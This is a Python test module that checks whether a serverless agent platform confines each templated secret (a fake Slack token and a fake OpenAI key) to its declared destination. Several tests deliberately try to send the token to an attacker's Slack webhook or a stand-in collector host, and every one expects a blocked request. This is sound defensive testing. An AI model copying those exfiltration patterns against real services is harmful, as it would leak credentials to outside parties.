"""Secrets bound to their destinations, through the local stack, with the example manifest's own rules
(issue 19, finding 1): a task author chooses the URL, the headers and the body, never where a secret goes.

The webhook and OpenAI agents run as the example manifest (src/serverless_agents/example_agents.toml)
configures them, with two changes a test needs: the secret's id, and the fake server's loopback network
opened (`allow_private_networks`). Slack's and the attacker's names resolve to that fake on 127.0.0.1.
"""

from __future__ import annotations

import json
import socket
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from serverless_agents.agent import Phase
from serverless_agents.deployment.manifest import EXAMPLE_MANIFEST
from serverless_agents.flyte import wire
from serverless_agents.local.stack import LocalStack
from tests.functional.conftest import Harness
from tests.functional.fake_http import FakeHttpServer, Reply
from tests.functional.test_openai_agent import chat_request, completion
from tests.functional.test_webhook_agent import HttpCallTask, webhook_request

pytestmark = pytest.mark.functional

TOKEN = "xoxb-insider-0123456789"
API_KEY = "sk-insider-0123456789"
#: Names the fake answers for: Slack's, and the attacker's.
FAKE_NAMES = ("slack.com", "hooks.slack.com", "collector.example.net")


def _toml(value: Any) -> str:
    """A value as TOML (inline): strings, numbers, booleans, lists and tables are all a manifest holds."""
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{json.dumps(k)} = {_toml(v)}" for k, v in value.items()) + " }"
    if isinstance(value, list):
        return "[" + ", ".join(_toml(v) for v in value) + "]"
    if isinstance(value, bool):
        return "true" if value else "false"
    return json.dumps(value)


def _example_agent(name: str, secret_id: str, **config: Any) -> dict[str, Any]:
    """The example manifest's agent `name`, its one secret's id replaced, `config` merged in."""
    agent: dict[str, Any] = tomllib.loads(EXAMPLE_MANIFEST.read_text())["agents"][name]
    agent["secrets"] = {
        key: {**secret, "id": secret_id} if isinstance(secret, dict) else secret_id
        for key, secret in agent["secrets"].items()
    }
    agent["config"] = {**agent.get("config", {}), **config}
    return agent


def _manifest(fake: FakeHttpServer) -> str:
    loopback = {"timeout": 1, "allow_private_networks": ["127.0.0.1"]}
    webhook = _example_agent("webhook", "insider-slack-token", **loopback)
    # The same agent without allowed_hosts (under another task type, so both fit one manifest).
    no_hosts = {**webhook, "class": "tests.functional.secret_agents:AnyHostWebhookAgent"}
    no_hosts["config"] = {k: v for k, v in webhook["config"].items() if k != "allowed_hosts"}
    chatgpt = _example_agent("chatgpt", "insider-openai-key", base_url=f"{fake.url}/v1", timeout=1)
    agents = {"webhook": webhook, "nohosts": no_hosts, "chatgpt": chatgpt}
    lines = ['[deployment]\nname = "sa-insider"']
    for name, agent in agents.items():
        lines.append(f"[agents.{name}]")
        lines += [f"{key} = {_toml(value)}" for key, value in agent.items()]
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeHttpServer]:
    with FakeHttpServer(Reply(200, "ok")) as server:
        yield server


@pytest.fixture(scope="module")
def harness(fake: FakeHttpServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    manifest: Path = tmp_path_factory.mktemp("insider") / "agents.toml"
    manifest.write_text(_manifest(fake))
    with LocalStack(manifest, driver_interval=0.1) as stack:
        secretsmanager = stack.client("secretsmanager")
        secretsmanager.create_secret(Name="insider-slack-token", SecretString=TOKEN)
        secretsmanager.create_secret(Name="insider-openai-key", SecretString=API_KEY)
        yield Harness(stack)


@pytest.fixture(autouse=True)
def _names_resolve_to_the_fake(fake: FakeHttpServer, monkeypatch: pytest.MonkeyPatch) -> None:
    fake.reset()
    resolve = socket.getaddrinfo

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        return resolve("127.0.0.1" if host in FAKE_NAMES else host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


def _post(harness: Harness, fake: FakeHttpServer, agent: str, url: str, **template: Any) -> Any:
    url = url.replace("{port}", str(urlsplit(fake.url).port))
    task_type = {"webhook": "webhook", "nohosts": "webhook_any"}[agent]
    task = HttpCallTask(name="tests.insider", url=url, task_type=task_type, **template)
    return harness.api.execute_sync(agent, webhook_request(task, {})).resource


def test_the_token_goes_to_slack_api_in_a_header(harness: Harness, fake: FakeHttpServer) -> None:
    """The control: what the example's rules allow still works."""
    headers = {"Authorization": "Bearer {secret:slack_token}"}

    resource = _post(
        harness, fake, "webhook", "http://slack.com:{port}/api/chat.postMessage", headers=headers
    )

    assert Phase(resource.phase) is Phase.SUCCEEDED, resource.message
    assert fake.last().headers["authorization"] == f"Bearer {TOKEN}"


def test_a_template_cannot_post_the_token_to_another_slack_workspace(
    harness: Harness, fake: FakeHttpServer
) -> None:
    resource = _post(
        harness,
        fake,
        "webhook",
        "http://hooks.slack.com:{port}/services/TATTACKER/B0ATTACKER/x",
        data={"text": "{secret:slack_token}"},
    )

    assert Phase(resource.phase) is Phase.FAILED
    assert resource.message.startswith("secrets.slack_token: the request to hooks.slack.com carries it")
    assert fake.requests == []
    assert TOKEN not in str(wire.to_dict(resource))


@pytest.mark.parametrize(
    ("url", "template"),
    [
        ("http://slack.com:{port}/api/chat.postMessage", {"data": {"text": "{secret:slack_token}"}}),
        ("http://slack.com:{port}/api/chat.postMessage?t={secret:slack_token}", {}),
        ("http://slack.com:{port}/api/auth.test", {"method": "GET", "data": {"t": "{secret:slack_token}"}}),
        ("http://slack.com:{port}/files/x", {"headers": {"Authorization": "Bearer {secret:slack_token}"}}),
    ],
)
def test_the_token_goes_nowhere_else_on_slack_either(
    harness: Harness, fake: FakeHttpServer, url: str, template: dict[str, Any]
) -> None:
    resource = _post(harness, fake, "webhook", url, **template)

    assert Phase(resource.phase) is Phase.FAILED
    assert resource.message.startswith("secrets.slack_token: ")
    assert fake.requests == []


def test_without_allowed_hosts_an_agent_with_secrets_calls_only_its_secrets_hosts(
    harness: Harness, fake: FakeHttpServer
) -> None:
    resource = _post(harness, fake, "nohosts", "http://collector.example.net:{port}/x", data={"a": 1})

    assert Phase(resource.phase) is Phase.FAILED
    assert resource.message.startswith("custom.url: host 'collector.example.net' is not one its secrets'")
    assert fake.requests == []


def test_the_openai_key_goes_only_where_the_manifest_declares(harness: Harness, fake: FakeHttpServer) -> None:
    """config.base_url points elsewhere than the key's destination (api.openai.com): nothing is sent."""
    fake.reply(Reply(200, completion("hi")))

    resource = harness.api.execute_sync("chatgpt", chat_request()).resource

    assert Phase(resource.phase) is Phase.FAILED
    assert resource.message.startswith("secrets.api_key: the request to 127.0.0.1 carries it in the header")
    assert fake.requests == []
